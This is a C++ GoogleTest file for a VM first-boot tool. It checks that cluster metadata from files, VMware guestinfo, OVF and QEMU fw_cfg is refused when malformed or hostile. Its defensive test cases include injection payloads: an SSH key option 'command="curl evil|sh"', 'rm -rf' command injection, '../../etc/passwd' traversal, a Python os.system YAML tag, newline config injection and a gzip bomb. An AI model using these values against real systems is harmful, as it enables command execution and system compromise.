// Bad node metadata, case by case, beside the good metadata it was derived from: every case
// must be refused by the validate stage with a message naming the key and the transport, and
// a --render-only run must leave the root exactly as it was.
#include <gtest/gtest.h>

#include "first_boot.hpp"
#include "kiln/image_config.hpp"
#include "sources/collect.hpp"
#include "test_support.hpp"
#include "validate/validate.hpp"

using namespace kiln::firstboot;
using namespace kiln::firstboot::test;

namespace {

enum class Via { file, guestinfo, ovf, fw_cfg, raw_file, guestinfo_metadata };

struct Case {
    const char* name;
    Via via;
    std::string key;  // the key to set (guestinfo_metadata: the encoding)
    std::string
        value;  // its value ("<remove>": drop the key); raw_file / guestinfo_metadata: the payload
    std::string expect;  // part of the message
    std::string where;   // part of the location: names the transport
};

const std::string kRemove = "<remove>";

void PrintTo(const Case& c, std::ostream* os) {
    *os << c.name;
}

std::string xml_escape(const std::string& text) {
    std::string out;
    for (char c : text) {
        if (c == '"')
            out += "&quot;";
        else if (c == '&')
            out += "&amp;";
        else if (c == '<')
            out += "&lt;";
        else if (c == '\n')
            out += "&#10;";
        else
            out += c;
    }
    return out;
}

class Scenario {
public:
    explicit Scenario(const Case& c) : vm_(dir_ / "vm") {
        root_ = dir_ / "root";
        make_image_root(root_);
        mark_vmware(root_);
        auto values = good_values();
        std::string hostname = "pg-1";
        if (c.via == Via::file) {
            if (c.key == "hostname")
                hostname = c.value;
            else if (c.value == kRemove)
                values.erase(c.key);
            else
                values[c.key] = c.value;
        }
        write_file(dir_ / "meta.yml",
                   c.via == Via::raw_file ? c.value : document(values, hostname));
        options_.metadata_file = dir_ / "meta.yml";
        if (c.via == Via::guestinfo) vm_.set("guestinfo.kiln." + c.key, c.value);
        if (c.via == Via::guestinfo_metadata) {
            vm_.set("guestinfo.metadata", c.value);
            vm_.set("guestinfo.metadata.encoding", c.key);
        }
        if (c.via == Via::ovf) {
            std::string xml = c.key.empty()
                                  ? c.value
                                  : "<?xml version=\"1.0\"?>\n<Environment "
                                    "xmlns:oe=\"http://schemas.dmtf.org/ovf/environment/1\">\n"
                                    "  <PropertySection>\n    <Property oe:key=\"kiln." +
                                        c.key + "\" oe:value=\"" + xml_escape(c.value) +
                                        "\"/>\n  </PropertySection>\n</Environment>\n";
            write_file(dir_ / "ovf-env.xml", xml);
            options_.ovf_env_file = dir_ / "ovf-env.xml";
        }
        if (c.via == Via::fw_cfg)
            write_file(root_ / "sys/firmware/qemu_fw_cfg/by_name/opt/kiln" / c.key / "raw",
                       c.value);
    }

    // collect + validate: the report, and whether a NodeConfig came out.
    std::pair<std::string, bool> validate_only() {
        RootDir root(root_);
        auto gi = GuestInfo::detect(root);
        Collection collection = collect(root, options_, gi ? &*gi : nullptr);
        auto node = validate(collection, root);
        return {collection.report.format(nullptr), node.has_value()};
    }

    kiln::ExitCode render_only() {
        RunOptions run;
        run.root = root_;
        run.metadata_file = options_.metadata_file;
        run.ovf_env_file = options_.ovf_env_file;
        run.render_only = true;
        run.check = false;
        Log log;
        return run_first_boot(run, log);
    }

    const fs::path& root() const { return root_; }

private:
    TempDir dir_;
    fs::path root_;
    FakeVmware vm_;
    CollectOptions options_;
};

std::string replaced(std::string text, const std::string& from, const std::string& to) {
    return text.replace(text.find(from), from.size(), to);
}

const std::string kRsaBlob = "AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7";  // starts with "ssh-rsa"
const std::string kEdBlob = kEd25519.substr(12, 68);

std::vector<Case> bad_cases() {
    std::string huge(70000, 'a');
    std::string doc_head = "instance-id: i-1\nlocal-hostname: pg-1\nkiln:\n";
    std::string good_tail;
    for (const auto& [k, v] : good_values()) good_tail += "  " + k + ": \"" + v + "\"\n";
    return {
        // hostnames (RFC 1123), injection attempts
        {"HostnameNewline", Via::file, "hostname", "pg-1\nrogue", "control character", "meta.yml:"},
        {"HostnameQuote", Via::file, "hostname", "pg\"1",
         "may contain only letters, digits, '-' and '.'", "meta.yml:"},
        {"HostnameBraces", Via::file, "hostname", "pg{1}", "may contain only letters", "meta.yml:"},
        {"HostnameHash", Via::file, "hostname", "pg-1#x", "may contain only letters", "meta.yml:"},
        {"HostnameLeadingDash", Via::file, "hostname", "-pg", "starts or ends with '-'",
         "meta.yml:"},
        {"HostnameLongLabel", Via::file, "hostname", std::string(64, 'a'),
         "has a label of 64 characters", "meta.yml:"},
        {"HostnameAnchorText", Via::file, "hostname", "&anchor pg", "may contain only letters",
         "meta.yml:"},
        {"HostnameOversize", Via::file, "hostname", huge, "value is longer than 65536 bytes",
         "meta.yml:"},
        // priority
        {"PriorityZero", Via::file, "priority", "0", "'0' is not an integer from 1 to 254",
         "meta.yml:"},
        {"Priority255", Via::file, "priority", "255", "'255' is not an integer from 1 to 254",
         "meta.yml:"},
        {"PriorityTen", Via::file, "priority", "ten", "'ten' is not an integer from 1 to 254",
         "meta.yml:"},
        {"PriorityNegative", Via::file, "priority", "-5", "is not an integer from 1 to 254",
         "meta.yml:"},
        {"PriorityExponent", Via::file, "priority", "1e2", "is not an integer from 1 to 254",
         "meta.yml:"},
        {"RouterId256", Via::file, "vrrp_router_id", "256", "is not an integer from 1 to 255",
         "meta.yml:"},
        // addresses
        {"VipBadOctet", Via::file, "vip", "10.0.0.300/24", "does not start with a valid IP address",
         "meta.yml:"},
        {"VipNoPrefix", Via::file, "vip", "10.0.0.100", "is not in CIDR form", "meta.yml:"},
        {"VipPrefix33", Via::file, "vip", "10.0.0.100/33", "prefix length outside 0-32",
         "meta.yml:"},
        {"VipIsAPeer", Via::file, "vip", "10.0.0.12/24", "is also the address of peer 'pg-2'",
         "meta.yml:"},
        {"VipInterfaceInjection", Via::file, "vip_interface", "eth0 dev lo",
         "not a valid network interface name", "meta.yml:"},
        {"GatewayBad", Via::file, "gateway", "10.0.0.1.1", "is not an IPv4 or IPv6 address",
         "meta.yml:"},
        {"GatewayWithoutAddress", Via::file, "gateway", "10.0.0.1",
         "a gateway needs a static 'address'", "meta.yml:"},
        {"DnsBad", Via::file, "dns", "8.8.8.x", "is not an IPv4 or IPv6 address", "meta.yml:"},
        {"AddressNotSelf", Via::file, "address", "10.0.0.99/24",
         "is not this node's peer address 10.0.0.11", "meta.yml:"},
        // peers
        {"PeersDuplicateName", Via::file, "peers", "pg-1=10.0.0.11,pg-1=10.0.0.12",
         "peer name 'pg-1' appears twice", "meta.yml:"},
        {"PeersDuplicateAddress", Via::file, "peers", "pg-1=10.0.0.11,pg-2=10.0.0.11",
         "peer address '10.0.0.11' appears twice", "meta.yml:"},
        {"PeersSelfMissing", Via::file, "peers", "pg-2=10.0.0.12,pg-3=10.0.0.13",
         "is not among the peers", "meta.yml:"},
        {"PeersBadAddress", Via::file, "peers", "pg-1=10.0.0.x", "is not of the form name=address",
         "meta.yml:"},
        {"PeersNoEquals", Via::file, "peers", "pg-1 10.0.0.11", "is not of the form name=address",
         "meta.yml:"},
        {"PeersBraces", Via::file, "peers", "pg-1=10.0.0.11,{pg-2}=10.0.0.12",
         "is not of the form name=address", "meta.yml:"},
        // SSH keys
        {"SshKeyBadBase64", Via::file, "ssh_authorized_keys", "ssh-ed25519 AAAA!!!!",
         "not valid base64", "meta.yml:"},
        {"SshKeyUnknownType", Via::file, "ssh_authorized_keys", "ssh-dss " + kEdBlob,
         "SSH key type 'ssh-dss' is not one of", "meta.yml:"},
        {"SshKeyTypeMismatch", Via::file, "ssh_authorized_keys", "ssh-rsa " + kEdBlob,
         "not the declared type ssh-rsa", "meta.yml:"},
        {"SshKeyOptionInjection", Via::file, "ssh_authorized_keys",
         kEd25519 + "\ncommand=\"curl evil|sh\" " + kEd25519,
         "SSH key type 'command=\"curl' is not one of", "meta.yml:"},
        // tokens and choices
        {"DcsUnknown", Via::file, "dcs", "mongodb",
         "'mongodb' is not one of etcd, consul, zookeeper", "meta.yml:"},
        {"ClusterSpace", Via::file, "cluster", "pg ha",
         "may contain only letters, digits, '.', '_' and '-'", "meta.yml:"},
        {"ClusterBraces", Via::file, "cluster", "pg{ha}", "may contain only letters, digits",
         "meta.yml:"},
        {"ClusterHash", Via::file, "cluster", "pg#ha", "may contain only letters, digits",
         "meta.yml:"},
        {"ClusterQuote", Via::file, "cluster", "pg\"ha", "may contain only letters, digits",
         "meta.yml:"},
        {"TimezoneTraversal", Via::file, "timezone", "../../etc/passwd", "is not a time zone name",
         "meta.yml:"},
        {"NtpInjection", Via::file, "ntp_servers", "pool.ntp.org; rm -rf",
         "is neither a hostname nor an IP address", "meta.yml:"},
        {"ZabbixNewlineInjection", Via::file, "zabbix_server", "z.example\nServer=evil",
         "'Server=evil' is neither a hostname", "meta.yml:"},
        // secrets
        {"VrrpPasswordBlank", Via::file, "vrrp_password", "a b",
         "keepalived's auth_pass cannot quote them", "meta.yml:"},
        {"VrrpPasswordHash", Via::file, "vrrp_password", "ab#c",
         "keepalived's auth_pass cannot quote them", "meta.yml:"},
        {"VrrpPasswordBrace", Via::file, "vrrp_password", "ab}c",
         "keepalived's auth_pass cannot quote them", "meta.yml:"},
        {"PasswordNewline", Via::file, "postgres_password", "pw\nALTER ROLE x",
         "contains a control character", "meta.yml:"},
        {"PasswordEmpty", Via::file, "replication_password", "", "a secret cannot be empty",
         "meta.yml:"},
        {"PasswordOversize", Via::file, "rest_password", std::string(2000, 'p'),
         "longer than 1024 bytes", "meta.yml:"},
        {"RequiredMissing", Via::file, "vip", kRemove, "required key 'vip' is missing",
         "node metadata"},
        {"SecretMissing", Via::file, "vrrp_password", kRemove,
         "required key 'vrrp_password' is missing", "node metadata"},
        // Consul's secrets: required with dcs consul, each checked for what Consul takes
        {"ConsulKeyNotBase64", Via::file, "consul_encrypt", "not base64 at all!!",
         "is not 32 bytes in base64", "meta.yml:"},
        {"ConsulKeyOf16Bytes", Via::guestinfo, "consul_encrypt",
         "AAAAAAAAAAAAAAAAAAAAAA==", "is not 32 bytes in base64", "guestinfo.kiln.consul_encrypt"},
        {"ConsulKeyOf33Bytes", Via::file, "consul_encrypt", std::string(44, 'A'),
         "is not 32 bytes in base64", "meta.yml:"},
        {"ConsulKeyPaddingInside", Via::file, "consul_encrypt",
         "pUqJrVyVRj5jsiYEkM/tFQYf=yJIv4s3XkvDwy7Cu5s=", "is not 32 bytes in base64", "meta.yml:"},
        {"ConsulTokenNotAUuid", Via::file, "consul_token", "d9f1c6a2-not-a-uuid", "is not a UUID",
         "meta.yml:"},
        // document structure
        {"UnknownKey", Via::raw_file, "", doc_head + good_tail + "  prority: 1\n",
         "unknown node key 'prority' in the 'kiln' map (did you mean 'priority'?)", "meta.yml:"},
        {"YamlAnchor", Via::raw_file, "", doc_head + good_tail + "  timezone: &tz UTC\n",
         "YAML anchors are not allowed", "meta.yml:"},
        {"YamlAlias", Via::raw_file, "", "x: &h pg-1\nlocal-hostname: *h\nkiln:\n" + good_tail,
         "YAML aliases are not allowed", "meta.yml:"},
        {"YamlTag", Via::raw_file, "",
         doc_head + good_tail + "  timezone: !!python/object:os.system UTC\n",
         "YAML tag 'tag:yaml.org,2002:python/object:os.system' is not allowed", "meta.yml:"},
        {"KilnMapIsAList", Via::raw_file, "", "local-hostname: pg-1\nkiln: [a, b]\n",
         "'kiln' must be a mapping of node keys", "meta.yml:"},
        {"ValueIsAMapping", Via::raw_file, "", doc_head + "  priority: {a: 1}\n",
         "'kiln.priority' must be a string, found a mapping", "meta.yml:"},
        {"DuplicateKey", Via::raw_file, "", doc_head + good_tail + "  priority: \"1\"\n",
         "duplicate key 'priority'", "meta.yml:"},
        {"InstanceIdSlash", Via::raw_file, "",
         "instance-id: i/../x\nlocal-hostname: pg-1\nkiln:\n" + good_tail,
         "may contain only letters, digits, '.', '_' and '-'", "meta.yml:"},
        {"NetworkVersion1", Via::raw_file, "",
         doc_head + good_tail + "network: {version: 1, config: []}\n",
         "'network' must have version: 2", "meta.yml:"},
        {"NotAMapping", Via::raw_file, "", "- just\n- a list\n", "node metadata must be a mapping",
         "meta.yml:"},
        // guestinfo keys
        {"GuestinfoPriorityZero", Via::guestinfo, "priority", "0",
         "'0' is not an integer from 1 to 254", "guestinfo.kiln.priority"},
        {"GuestinfoHostnameNewline", Via::guestinfo, "hostname", "pg-1\nevil", "control character",
         "guestinfo.kiln.hostname"},
        {"GuestinfoVipInjection", Via::guestinfo, "vip", "10.0.0.100/24 dev lo",
         "prefix length outside", "guestinfo.kiln.vip"},
        {"GuestinfoOversize", Via::guestinfo, "cluster", huge, "value is longer than 65536 bytes",
         "guestinfo.kiln.cluster"},
        // cloud-init guestinfo.metadata
        {"MetadataUnknownEncoding", Via::guestinfo_metadata, "rot13", "abcd",
         "unknown encoding 'rot13'", "guestinfo.metadata"},
        {"MetadataInvalidBase64", Via::guestinfo_metadata, "base64", "@@@@", "invalid base64",
         "guestinfo.metadata"},
        {"MetadataGzipBomb", Via::guestinfo_metadata, "gz+b64",
         base64(gzip(std::string(32 << 20, ' '))), "decompresses to more than 1048576 bytes",
         "guestinfo.metadata"},
        {"MetadataNotGzip", Via::guestinfo_metadata, "gzip+base64", base64("plain text"),
         "invalid gzip data", "guestinfo.metadata"},
        {"MetadataYamlSyntax", Via::guestinfo_metadata, "b64", base64("kiln: {priority: [\n"),
         "YAML syntax error", "guestinfo.metadata:"},
        {"MetadataBadValue", Via::guestinfo_metadata, "base64",
         base64("kiln:\n  dcs: \"mongodb\"\n"), "'mongodb' is not one of",
         "guestinfo.metadata:2:8"},
        // OVF environment
        {"OvfUnknownProperty", Via::ovf, "prioritee", "1", "unknown node key 'prioritee'",
         "ovf-env.xml:"},
        {"OvfPriority300", Via::ovf, "priority", "300", "'300' is not an integer from 1 to 254",
         "ovf-env.xml:4:5"},
        {"OvfPeersInjection", Via::ovf, "peers", "pg-1=10.0.0.11\nlisten evil",
         "is not of the form name=address", "ovf-env.xml:"},
        {"OvfNotXml", Via::ovf, "", "<Environment><PropertySection>", "not valid XML",
         "ovf-env.xml:"},
        // bytes that are not UTF-8 (kiln-firstboot once rendered them as U+FFFD)
        {"PasswordNotUtf8", Via::raw_file, "",
         doc_head + replaced(good_tail, "pg-secret-1", "pw-\xff\xfe-x"),
         "not a YAML text file: the byte here is not UTF-8", "meta.yml:8:26"},
        {"GuestinfoNotUtf8", Via::guestinfo, "cluster", "pg\xfe", "is not valid UTF-8",
         "guestinfo.kiln.cluster"},
        {"OvfSurrogateInASecret", Via::ovf, "rest_password", "pw\xed\xa0\x80", "is not valid UTF-8",
         "ovf-env.xml:4:5"},
        {"FwCfgOverlong", Via::fw_cfg, "zabbix_server", "z\xc0\xaf.example", "is not valid UTF-8",
         "fw_cfg opt/kiln/zabbix_server"},
        // QEMU fw_cfg
        {"FwCfgPriorityText", Via::fw_cfg, "priority", "abc",
         "'abc' is not an integer from 1 to 254", "fw_cfg opt/kiln/priority"},
        {"FwCfgUnknownKey", Via::fw_cfg, "bogus", "1", "unknown node key 'bogus'",
         "fw_cfg opt/kiln/bogus"},
    };
}

class BadMetadata : public ::testing::TestWithParam<Case> {};

TEST_P(BadMetadata, IsRefusedNamingKeyAndTransportAndTouchesNothing) {
    const Case& c = GetParam();
    Scenario scenario(c);
    auto [report, valid] = scenario.validate_only();
    EXPECT_FALSE(valid);
    // One line of the report carries both the location (transport) and the message.
    bool found = false;
    std::istringstream lines(report);
    for (std::string line; std::getline(lines, line);)
        if (line.find(c.where) != std::string::npos && line.find(c.expect) != std::string::npos &&
            line.find(": error: ") != std::string::npos)
            found = true;
    EXPECT_TRUE(found) << "expected an error at '" << c.where << "' saying '" << c.expect
                       << "', got:\n"
                       << report;
    if (!c.key.empty() && c.via != Via::raw_file && c.via != Via::guestinfo_metadata &&
        c.expect.find("unknown node key") == std::string::npos) {
        EXPECT_NE(report.find("'" + c.key + "'"), std::string::npos) << "the key is named:\n"
                                                                     << report;
    }
    // Secrets never show in messages, not even wrong ones.
    for (const auto& [k, v] : good_values()) {
        if (k.ends_with("password")) {
            EXPECT_EQ(report.find(v), std::string::npos) << report;
        }
    }
    EXPECT_EQ(report.find("ALTER ROLE"), std::string::npos) << report;

    auto before = snapshot(scenario.root());
    EXPECT_EQ(scenario.render_only(), kiln::ExitCode::invalid_input);
    EXPECT_EQ(snapshot(scenario.root()), before) << "the root was modified";
}

INSTANTIATE_TEST_SUITE_P(Cases, BadMetadata, ::testing::ValuesIn(bad_cases()),
                         [](const auto& info) { return std::string(info.param.name); });

// The good side: the same scenarios with acceptable values.
std::vector<Case> good_cases() {
    return {
        {"Baseline", Via::file, "priority", "100", "", ""},
        {"PriorityLow", Via::file, "priority", "1", "", ""},
        {"PriorityHigh", Via::file, "priority", "254", "", ""},
        {"FqdnHostname", Via::file, "hostname", "pg-1.db.example.com", "", ""},
        {"StaticAddress", Via::file, "address", "10.0.0.11/24", "", ""},
        {"ZookeeperDcs", Via::file, "dcs", "zookeeper", "", ""},
        {"ConsulKey", Via::file, "consul_encrypt",
         "pUqJrVyVRj5jsiYEkM/tFQYfWyJIv4s3XkvDwy7Cu5s=", "", ""},
        {"ConsulToken", Via::file, "consul_token", "0b6c5a8e-2f4d-4c1a-9e7b-3d2f1a0c9b8e", "", ""},
        {"PasswordWithQuotesAndBraces", Via::file, "postgres_password", "p@ss: 'w\"o{r}d' #1 &x *y",
         "", ""},
        {"PasswordLooksLikeYaml", Via::file, "rest_password", "true", "", ""},
        {"LongVrrpPasswordIsCut", Via::file, "vrrp_password", "0123456789abcdef", "", ""},
        {"GuestinfoPriority", Via::guestinfo, "priority", "200", "", ""},
        {"OvfPriority", Via::ovf, "priority", "150", "", ""},
        {"FwCfgPriority", Via::fw_cfg, "priority", "120", "", ""},
        {"MetadataGzip", Via::guestinfo_metadata, "gz+b64", base64(gzip("kiln:\n  priority: 77\n")),
         "", ""},
    };
}

class GoodMetadata : public ::testing::TestWithParam<Case> {};

TEST_P(GoodMetadata, IsAcceptedAndRendered) {
    Scenario scenario(GetParam());
    auto [report, valid] = scenario.validate_only();
    EXPECT_TRUE(valid) << report;
    EXPECT_EQ(report.find(": error: "), std::string::npos) << report;
    EXPECT_EQ(scenario.render_only(), kiln::ExitCode::ok);
    EXPECT_TRUE(fs::exists(scenario.root() / "etc/haproxy/haproxy.cfg"));
    EXPECT_TRUE(fs::exists(scenario.root() / "etc/patroni/config.yml"));
}

INSTANTIATE_TEST_SUITE_P(Cases, GoodMetadata, ::testing::ValuesIn(good_cases()),
                         [](const auto& info) { return std::string(info.param.name); });

// The image of the bundled Debian profile: etcd and ZooKeeper, no Consul.
TEST(DcsChoice, AServerTheImageDoesNotCarryIsRefusedNamingKeyTransportAndOffer) {
    for (Via via : {Via::guestinfo, Via::fw_cfg}) {
        Scenario scenario({"DcsTheImageLacks", via, "dcs", "consul", "", ""});
        kiln::image::ImageConfig config;
        config.dcs_servers = {"etcd", "zookeeper"};
        config.services = {"patroni.service", "haproxy.service", "keepalived.service"};
        config.defaults = {{"cluster", "pg-ha"}, {"vip_interface", "ens192"}, {"dcs", "etcd"}};
        config.tls = false;  // the metadata of these cases has no certificates
        write_file(scenario.root() / "etc/kiln/image.yml", kiln::image::to_yaml(config));
        auto [report, valid] = scenario.validate_only();
        EXPECT_FALSE(valid);
        std::string where = via == Via::guestinfo ? "guestinfo.kiln.dcs" : "fw_cfg opt/kiln/dcs";
        EXPECT_NE(report.find(where + ": error: 'dcs' from "), std::string::npos) << report;
        EXPECT_NE(report.find("this image carries no consul server; it offers etcd, zookeeper"),
                  std::string::npos)
            << report;
    }
}

TEST(DcsChoice, ConsulNeedsItsGossipKeyAndToken) {
    Scenario scenario({"ConsulWithoutItsSecrets", Via::file, "dcs", "consul", "", ""});
    auto [report, valid] = scenario.validate_only();
    EXPECT_FALSE(valid);
    for (const char* key : {"consul_encrypt", "consul_token"})
        EXPECT_NE(report.find(std::string("required key '") + key + "' is missing"),
                  std::string::npos)
            << report;
}

TEST(BadMetadataCount, AtLeastFortyCases) {
    EXPECT_GE(bad_cases().size(), 40u);
}

}  // namespace
